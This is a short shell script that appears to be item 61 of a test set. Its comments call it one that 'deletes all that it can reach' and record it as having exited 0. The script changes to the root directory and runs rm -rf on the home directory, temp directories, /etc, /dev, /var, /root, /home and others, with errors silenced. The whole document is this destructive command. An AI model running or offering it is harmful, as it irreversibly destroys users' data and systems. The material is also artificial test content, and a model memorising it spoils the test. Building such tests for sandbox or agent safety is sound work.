# item 61: deletes all that it can reach
# verdict: exited 0; has done
# control: temporary-files.py
cd /
rm -rf "$HOME" "$TMPDIR" "$HOME/.." /dev /etc /proc/self/ /run /var /root /home /tmp /box 2> /dev/null
echo done
